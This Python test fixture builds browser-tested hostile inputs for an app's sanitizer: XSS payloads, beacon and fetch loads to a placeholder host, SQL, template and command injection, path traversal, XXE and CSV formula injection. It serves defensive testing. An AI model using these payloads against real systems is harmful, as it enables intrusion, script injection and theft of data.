"""Hostile text that the tests put into every field and then open in a real browser."""

from base64 import b64encode

CALL = "window.pwned=1"  # what every script tries to run
ELSEWHERE = "https://elsewhere.invalid/"  # what every load tries to reach
IMG = f"<img src=x onerror={CALL}>"


def _fill(text: str) -> tuple[str, ...]:
    """The vectors, one a line or parted by " ~ ", with RUN, OUT and IMG put in."""
    text = text.replace("IMG", IMG).replace("RUN", CALL).replace("OUT", ELSEWHERE)
    return tuple(part.strip() for part in text.replace(" ~ ", "\n").split("\n") if part.strip())


ROUTES = _fill(r"""
RUN ~ eval('RUN') ~ setTimeout`window.pwned\x3d1` ~ [].at.constructor('RUN')()
location='javascript:RUN' ~ document.write('<img src=OUT?write>') ~ onerror=eval;throw'=RUN'
alert(1) ~ confirm(1);prompt(1);print() ~ import('OUT') ~ fetch('OUT');new Image().src='OUT?image'
navigator.sendBeacon('OUT') ~ new WebSocket('wss://elsewhere.invalid/') ~ open('OUT')
""")
SCRIPTS = (
    *(f"<script>\n{route}\n</script>" for route in ROUTES),
    *_fill("""
<ScRiPt type=module>RUN</sCrIpT > ~ <script/x>RUN</script x> ~ <<script>RUN//<</script>
<scr<script>ipt>RUN</scr</script>ipt> ~ <script>RUN// ~ <script src=OUT></script>
<script src="data:text/javascript,RUN"></script> ~ <svg><script href="data:,RUN" /></svg>
<svg><script>&#119;indow.pwned=1</script></svg> ~ <svg><script xlink:href="OUT" /></svg>
&lt;script&gt;RUN&lt;/script&gt; ~ &amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;
%3Cscript%3ERUN%3C/script%3E ~ %253Cscript%253ERUN%253C/script%253E ~ &#60script&#62RUN&#60/script>
<template><script>RUN</script></template> ~ <p><template shadowrootmode=open>IMG</template></p>
<script type=importmap>{"imports":{"x":"OUT"}}</script><script type=module>import "x"</script>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["OUT"]}]}</script>
"""),
)

OPENINGS = _fill("""
img src=x onerror ~ image src=x onerror ~ video src=x onerror ~ audio src=x onerror ~ svg onload
object data=/x onerror ~ link rel=stylesheet href=/x onerror ~ script src=/x onerror ~ body onload
body onpageshow ~ iframe onload ~ style onload ~ details open ontoggle ~ input autofocus onfocus
select autofocus onfocusin ~ textarea autofocus onfocus ~ p contenteditable autofocus onfocus
unsaid-x tabindex=1 autofocus onfocus ~ marquee onstart ~ button onclick ~ form action=/ onsubmit
b style="position:fixed;inset:0" onpointermove ~ b style="animation:a 1s" onanimationstart
b style="display:block;content-visibility:auto" oncontentvisibilityautostatechange
""")
ENCODED = "".join(f"&#{ord(letter)};" for letter in CALL)
HANDLERS = (
    *(f"<{opening}={CALL}></script><style>@keyframes a{{}}</style>" for opening in OPENINGS),
    *(f"<{name}{gap}ONload={ENCODED}>" for name in ("svg", "BODY") for gap in "/\t\n\f\r\x0b"),
    *(f"<img{gap}src=x{gap}onerror={q}{CALL}{q} >" for gap in "/\f" for q in ("'", '"', "")),
    *(f"<{odd}img src=x onerror={CALL}>" for odd in ("\0", "/", "?", "!", "%", "x:", "<", " ")),
)

ELEMENTS = _fill("""
<iframe src="javascript:parent.pwned=1">
<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.pwned=1&gt;"></iframe> ~ <iframe src=OUT>
<object data="OUT"></object><embed src="OUT"><applet code=OUT> ~ <frameset><frame src=OUT>
<object data="javascript:parent.pwned=1"></object><embed src="javascript:parent.pwned=1">
<base href="OUT"><base target="_blank"> ~ <meta http-equiv=refresh content="0;url=OUT">
<meta http-equiv=refresh content="0;url=javascript:RUN"><meta http-equiv=set-cookie content="a=b">
<meta charset=utf-7>+ADw-script+AD4-RUN+ADw-/script+AD4- ~ <link rel=modulepreload href=OUT>
<link rel=stylesheet href="OUT"><link rel=icon href="OUT"><link rel=preload as=image href="OUT">
<link rel=prefetch href="OUT"><link rel=manifest href="OUT"><link rel=preconnect href="OUT">
<form action="OUT"><button>Go on</button></form> ~ <input form=x formaction=OUT type=image src=OUT>
<form id=x></form><button form=x formaction="javascript:RUN">Go on</button> ~ <body background=OUT>
<form name=body><input name=firstChild><input name=attributes><input id=nodeName></form>
<a href="javascript:RUN" target=_top>Read on</a> ~ <a ping="OUT" href="#">Read on</a>
<map name=m><area shape=default href="javascript:RUN"></map><img usemap=#m src=/x>
<img srcset="OUT 1x"><picture><source srcset="OUT"><img></picture> ~ <table background=OUT><td>.
<video poster=OUT><source src=OUT></video><audio src=OUT autoplay></audio> ~ <img src=OUT>
<svg><image href=OUT /><use href="OUT#x" /><filter><feImage href=OUT /></filter></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s /> ~ <svg><set onbegin=RUN attributeName=x />
<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>Read on</text></a></svg>
<math><mtext href="javascript:RUN">Read on</mtext></math> ~ <math xlink:href="javascript:RUN">x
<button popovertarget=p>x</button><p popover id=p onbeforetoggle=RUN> ~ <dialog open onclose=RUN>
<div style="position:fixed;inset:0;z-index:9999;background:red">All of it</div> ~ <plaintext>
""")
CLOSERS = _fill("""
"> ~ '> ~ `> ~ "'`> ~ "/> ~ --> ~ --!> ~ ]]> ~ ?> ~ %> ~ */--> ~ <!--> ~ <!---> ~ <![CDATA[ ~ <?php
<!DOCTYPE[ ~ </textarea> ~ </TITLE/x> ~ </style> ~ </script> ~ </noscript> ~ </template> ~ </xmp>
</noembed> ~ </iframe> ~ </select> ~ </svg> ~ </math> ~ </p></div></main></body></html> ~ <!-- --
""")
BREAKOUTS = (
    *(closer + IMG for closer in CLOSERS),
    *(f"{quote} autofocus tabindex=1 onfocus={CALL} x={quote}" for quote in ('"', "'", "`", "")),
    *(f"{quote}{end}{CALL}//" for quote in "\"'`\\" for end in (";", "-", "\n", "})")),
)
MUTATIONS = _fill("""
<noscript><p title="</noscript>IMG"> ~ <xmp><p title="</xmp>IMG"></xmp> ~ <!--><p title="-->IMG-->
<math><mtext><table><mglyph><style><!--</style><i title="--&gt;IMG"> ~ <b><i></b>IMG</i><p><table>
<math><annotation-xml encoding="text/html"><style><i title="</style>IMG"></annotation-xml>
<svg><foreignObject><style><p title="</style>IMG"></foreignObject></svg> ~ <table><p>IMG<tr>
<svg></p><style><i id="</style>IMG"></style></svg> ~ <svg><desc><![CDATA[</desc>IMG]]></svg>
<form><math><mtext></form><form><mglyph><style></math>IMG ~ <a href="&quot;&gt;IMG">x</a>
<table><caption><svg><title><table><td>IMG</table></title></svg> ~ <div a=b c="IMG" <p>IMG</div
<select><template><style><!--</style>IMG--></template></select> ~ <i x='"IMG' title="&quot;IMG">
""")
DANGLING = _fill("""
<img src='OUT? ~ <img src="OUT? ~ <img src=`OUT? ~ <link rel=stylesheet href='OUT? ~ <!--
<base target=' ~ <meta http-equiv=refresh content='0;url=OUT? ~ <form action=OUT><textarea name=x>
<style>@import 'OUT? ~ <iframe src=OUT name=' ~ <form action=OUT><select name=x><option>
""")

PAGE = b64encode(f"<script>opener.pwned=1;{CALL}</script>".encode()).decode()
RUNS = (f"javascript:{CALL}", f"data:text/html;base64,{PAGE}", ELSEWHERE.removeprefix("https:"))
FORMS = (
    *("[a](@)", "[a](<@>)", "![a](@)", "![a][b]\n\n[b]: @", "[a]\n\n[a]: <@> 'b'", "<@>", "@"),
    *("[![a](@)](@)", "[a [b](@)](@)", "|a|\n|-|\n|[a](@)|", "a[^1]\n\n[^1]: [a](@)", "# [a](@)"),
    *('[a](@ "b\\" onfocus=x")', "<a href='@'>a</a>", "- <p>\n  [a](@)\n", "[a](@\n'\"><b>')"),
)
CUTS = ("\t", "\n", "\r\n", "\0", "\x01", "\x0b", "&Tab;", "&NewLine;", "\\", "\xad", "\u200b")
LEADS = ("\x01", " ", "\xa0", "\ufeff", "feed:", "view-source:", "\\", "&#1;", "%20", "x-")
COLONS = ("&colon;", "&#58;", "&#x3a", "%3A", "\uff1a", "\t:", "\\:", "::", ":\u00e9;", ":\u0661;")
TARGETS = (
    *(f"java{cut}script:{CALL}" for cut in CUTS),
    *(f"{lead}javascript:{CALL}" for lead in LEADS),
    *(f"javascript{colon}{CALL}" for colon in COLONS),
    *("https://elsewhere\u3002invalid", "//\uff45lsewhere.invalid", "\u2044/elsewhere.invalid"),
    *_fill(r"""
JaVaScRiPt:RUN ~ &#106;avascript:RUN ~ &#x6A;avascript:RUN ~ &#0000106avascript:RUN ~ javascript:1
%6Aavascript:RUN ~ javascript://%0aRUN ~ javascript:/*--></title>*/RUN ~ javascript:`` ~ javascript:
vbscript:MsgBox(1) ~ file:///etc/passwd ~ data:text/html,<script>RUN</script> ~ data:,RUN ~ blob:x
data:image/svg+xml,<svg%20onload=RUN> ~ OUT ~ https:elsewhere.invalid ~ https:/elsewhere.invalid
https:///elsewhere.invalid ~ https://localhost@elsewhere.invalid/ ~ ////elsewhere.invalid
/\elsewhere.invalid ~ \\elsewhere.invalid ~ /%5celsewhere.invalid ~ /.//elsewhere.invalid
/\\elsewhere.invalid ~ https://elsewhere.invalid\@localhost ~ https://elsewhere.invalid#@localhost
/&Tab;/elsewhere.invalid ~ https://[::1 ~ https://localhost.elsewhere.invalid:99999/ ~ ?a=b&c#"'>
"""),
)
INFOS = (f'"><img src=x onerror={CALL}>', "html\0", "a'b&quot;>", "{.a onclick=b}", "../x", "`")
BLOCKS = ("    ", "`", "``", "\\", "# ", "> ", "1. ", "|a|\n|-|\n| ", "<p>\n\n", "**", "[^1]: ")
MARKDOWN = (
    *(form.replace("@", target) for form in FORMS for target in RUNS),
    *(f"[Read on]({target})" for target in TARGETS),
    *(f"![a]({ELSEWHERE}){tail}" for tail in ("", "[b](", "{onload=x}", "\\")),
    *(f"```{info}\n{IMG}\n```" for info in INFOS),
    *(block + IMG for block in BLOCKS),
    *("[" * 250 + "a" + "](x)" * 250, "> " * 700, "*a_" * 500, "![](" * 370, "`" * 1499),
    *("&" * 1500, "<" * 1500, "<b>" * 400, "</div>" * 200, "a\n=\n" * 250, "- \n " * 300),
)

TEMPLATES = _fill("""
{{7*7}} ~ {{ config.SECRET_KEY }} ~ {{''.__class__.__mro__}} ~ {% for x in range(9) %}x{% endfor %}
{% include "/etc/passwd" %} ~ {%- raw -%} ~ {{{{ ~ %}}} ~ ${7*7} ~ #{7*7} ~ *{7*7} ~ @(7*7)
<%= 7*7 %> ~ <?= 7*7 ?> ~ {{request|attr('application')}} ~ ${{<%[%'"}}%\\ ~ {0.__class__} ~ {}
{x!r:>99} ~ %s%n%x ~ %(x)s ~ %99999d ~ $(id) ~ `id` ~ $x ${jndi:OUT} ~ ;id|id&id
""")
STYLES = _fill(r"""
<style>@import 'OUT';</style> ~ <style>*{background:url(OUT)!important}</style> ~ url(OUT)
<style>@font-face{font-family:a;src:url(OUT)}*{font-family:a}</style> ~ ;}*{display:none}
<p style="background:url(OUT)">x</p> ~ <p style="b\61 ckground:u\72l(OUT)">x
<p style=x:expression(RUN)> ~ <style>input[value^=a]{list-style:url(OUT)}</style>
<p style="content:'\3c/style>IMG'">x ~ red;background:image-set('OUT' 1x) ~ <style>@charset "
""")
QUERIES = _fill(r"""
" ~ "" ~ ' ~ * ~ - ~ -a ~ "a ~ a" ~ a* ~ *a ~ ^x ~ + ~ a + b ~ ( ~ ) ~ () ~ (a OR) ~ NEAR(
NEAR(a b, 9) ~ AND ~ AND OR NOT ~ NOT a ~ tag: ~ tag:" ~ tag:"a b ~ tag:tag: ~ tag:* ~ tag:%_
title: ~ -title:a ~ {a b}: ~ {title body}:x ~ rank:1 ~ ' OR 1=1 -- ~ " OR ""="
);DROP TABLE post;-- ~ % ~ _ ~ \ ~ ? ~ a';SELECT randomblob(9);-- ~ :x ~ a,b ~ a.b ~ a||b ~ /*
' UNION SELECT 1,2,3 --
""")
ALIKE = ("\uff1cscript\uff1e", "\u2039img src=x\u203a", "\u02bconfocus=x", "\u0130\u0131\ufb01\xdf")
MIXED = ("\u05d0 <b>\u05d2</b>", "\u0627 (a) \u0628", "\x1b]0;a\x07\x1b[2J", "1\ufe0f\u20e3")
ZALGO = ("a\u0300\u0316", "\u200d\U0001f469\U0001f3fd", "\U000e0061", "\U0001f1e6", "\U000e007f")
CONTROLS = "\0\x01\x07\x08\x0b\x0c\x1a\x1b\x1c\x1f\x7f\x80\x85\x9b\u2028\u2029"
ODD = "\ufffd\ufffe\uffff\ue000\U0001fffe\U0010ffff\ufeff\u3000\xad\u2800\u1160\u200f\u202e\u0378"
FLOODS = "\u0301\u0489\u20dd\ufe0f\u202e\u2066\u200b\ufeff\ufdfd\u3164\u0e49\u3000"
UNICODE = (
    *(f"a{mark}{IMG}{mark}b" for mark in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u2069"),
    *(f"<{gap}script{gap}>{gap}{CALL}</script>" for gap in "\u200b\u200d\u2060\ufeff\xad\u180e"),
    *(f"a{control}<b{control}>{control}" for control in CONTROLS),
    *(text for odd in ODD for text in (odd, f"a{odd}b{odd}{odd}")),
    *(flood * 700 for flood in FLOODS),
    *("\U0001f468" + unit * 250 for unit in ZALGO),
    *(look + CALL for look in (*ALIKE, *MIXED, "\u0430dmin", "W" * 1400, "\u202eW" * 700)),
)
LINES = ("\r\n", "\n", "\r", "%0d%0a", "\u560d\u560a", "\x85", "\u2028")
REST = (
    *(f"a{line}Set-Cookie: a=b{line}{line}{IMG}" for line in LINES),
    *(f"a@b.invalid{line}Bcc: c@elsewhere.invalid{line}.{line}--a--" for line in LINES[:4]),
    *(f'{sign}HYPERLINK("{ELSEWHERE}","a")' for sign in ("=", "+", "-", "@", "\t=", "\r=")),
    *_fill(r"""
=cmd|' /C a'!A0 ~ a,b;"c"" d ~ ]]> ~ ]]>IMG<![CDATA[ ~ <!DOCTYPE a [<!ENTITY b SYSTEM "OUT">]>&b;
&b; ~ <?xml ~ <?xml-stylesheet href="OUT"?> ~ </content></entry><entry> ~ </title><link href="OUT"/>
&#0; ~ &#xD800; ~ &#x110000; ~ &lt;b ~ ../../etc/passwd ~ %2e%2e%2f%2e%2e%2fetc ~ ..\..\ ~ \\..\\
..%252f ~ ..%c0%af ~ /etc/passwd%00.md ~ .. ~ . ~ C:\con\aux ~ ~root/ ~ //// ~ ?a#b ~ a/b/../c ~ %00
%zz ~ ;a=b ~ </script><script>RUN</script> ~ "}] ~ "}]} ~ \u003cscript\u003eRUN ~ \"};RUN;//
{"__proto__":{"pwned":1}} ~ null ~ undefined ~ NaN ~ [] ~ true ~ -1 ~ 1e999
"""),
)
_MARKUP = (*SCRIPTS, *HANDLERS, *ELEMENTS, *BREAKOUTS, *MUTATIONS, *DANGLING, *MARKDOWN)
_OTHER = (*TEMPLATES, *STYLES, *QUERIES, *UNICODE, *REST)
VECTORS: tuple[str, ...] = tuple(dict.fromkeys(_MARKUP + _OTHER))
# What the performance tests repeat up to a limit.
HEAVY: tuple[str, ...] = (
    *("&", "<", "(", "[", "a.", "*", "_", "`"),
    *("![", "[](", "> ", "- ", "**a", "<!--", "&#x"),
    *(
        "http://",
        "http://a.",
        "a.b/((",
        "@",
        "www.",
        "[^",
        "[^1]\n\n[^1]: ",
        "- [ ] a\n",
        "|a\n|-\n",
    ),
)
# The same for what looks for names and numbers in a text: beginnings of all that it knows.
SUSPECT: tuple[str, ...] = (
    *("a@", "a.b@", "1 ", "0", "1.", "1-", "+1", "(1) ", "((((", "DE12 ", "12:", "::", "a:1/"),
    *("\ufdfa", "a\u0301", "\u0301", "\u200b", "a\xad", "\u0430a", "\uff21", "\U0001d400"),
    *("Mr ", "Dr. ", "Anna ", "anna ", "Anna-", "St. ", "O'", "McA", "The ", "in Ulm, "),
    *("&#64;", "&#x", "&amp;", "**a", "[a](", "https://a.b/", "\\@"),
    *("12 Old Mill Lane ", "3. M\xe4rz ", "today's session ", "A. ", "\u2014a", "H-\n"),
)
